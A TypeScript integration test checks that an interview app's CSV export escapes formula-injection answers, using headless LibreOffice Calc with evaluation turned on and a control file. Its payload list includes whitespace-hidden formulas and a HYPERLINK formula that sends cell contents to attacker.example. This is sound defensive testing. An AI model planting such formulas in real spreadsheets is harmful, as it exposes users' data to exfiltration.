import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { TestApp, adminToken, bearer, startApp, uniq } from './helpers/app';
import { makeInterview, makeProduct } from './helpers/factories';

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((file) => existsSync(file));
const run = promisify(execFile);

/** Answers a spreadsheet program could take for formulas, first characters hidden behind whitespace. */
const HOSTILE = [
  '=1+1',
  ' =2+2',
  '\t=3+3',
  '\u00a0=4+4',
  '  +5+5',
  '-6+6',
  ' @SUM(7,7)',
  '\u3000=8+8',
  '=HYPERLINK("https://attacker.example/?leak="&A1,"click")',
];

/**
 * LibreOffice Calc opens the CSV as a person would, with formula evaluation on (the import option a
 * spreadsheet user may well have ticked), and saves what its cells show. No exported cell may be
 * evaluated: each shows the text the interviewee wrote, with the leading ' the export adds. A control
 * file proves that the same import does evaluate an unneutralised formula.
 */
(SOFFICE ? describe : describe.skip)(`CSV export opened in LibreOffice Calc${SOFFICE ? '' : ' (skipped: LibreOffice is not installed)'}`, () => {
  let t: TestApp;
  let admin: string;
  let dir: string;

  beforeAll(async () => {
    t = await startApp();
    admin = await adminToken(t);
    dir = mkdtempSync(join(tmpdir(), 'irs-calc-'));
  });

  afterAll(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  /** The cells of `csv` as Calc shows them after importing it with formulas evaluated. */
  async function shownByCalc(name: string, csv: string | Buffer): Promise<string[][]> {
    const input = join(dir, `${name}.csv`);
    writeFileSync(input, csv);
    const out = join(dir, `${name}-out`);
    await run(
      SOFFICE!,
      [
        `-env:UserInstallation=file://${join(dir, 'profile')}`,
        '--headless',
        // Import: comma, double quote, UTF-8, from line 1, ..., the 13th token turns formula evaluation on.
        '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,false,true',
        // Export: the cells as shown, not their formulas.
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
        '--outdir',
        out,
        input,
      ],
      { timeout: 90_000 },
    );
    const [file] = readdirSync(out);
    return Papa.parse<string[]>(readFileSync(join(out, file), 'utf8'), { skipEmptyLines: true }).data;
  }

  it('evaluates an unneutralised formula (the control), and none of the exported answers', async () => {
    const control = await shownByCalc('control', 'a,b\r\n=1+1,x\r\n');
    expect(control[1][0]).toBe('2');

    const orgID = uniq('org');
    const productID = await makeProduct(t, admin, { orgID });
    const interviewID = await makeInterview(t, admin, productID, { guidelines: HOSTILE.map((_, i) => `Question ${i}?`).join('\n') });
    const [url] = (await t.http.get('/v1/invites/createInvites').query({ interviewID, count: 1 }).set(bearer(admin))).body.result as string[];
    const linkID = url.split('/').pop()!;
    await t.http.post(`/i/${linkID}/start`).send({ name: 'Eve', email: 'eve@example.com', consent: true }).expect(200);
    for (const content of HOSTILE) await t.http.post(`/i/${linkID}/reply`).send({ content }).expect(200);

    const exported = await t.http
      .get('/v1/interviews/exportAnswers')
      .query({ interviewID, format: 'csv' })
      .set(bearer(admin))
      .buffer(true)
      .parse((r, done) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(exported.status).toBe(200);
    const rows = await shownByCalc('export', exported.body as Buffer);
    const answer = rows[0].indexOf('answer');
    const shown = rows.slice(1).map((row) => row[answer]);
    for (const text of HOSTILE) expect(shown).toContain(`'${text}`);
  }, 180_000);
});
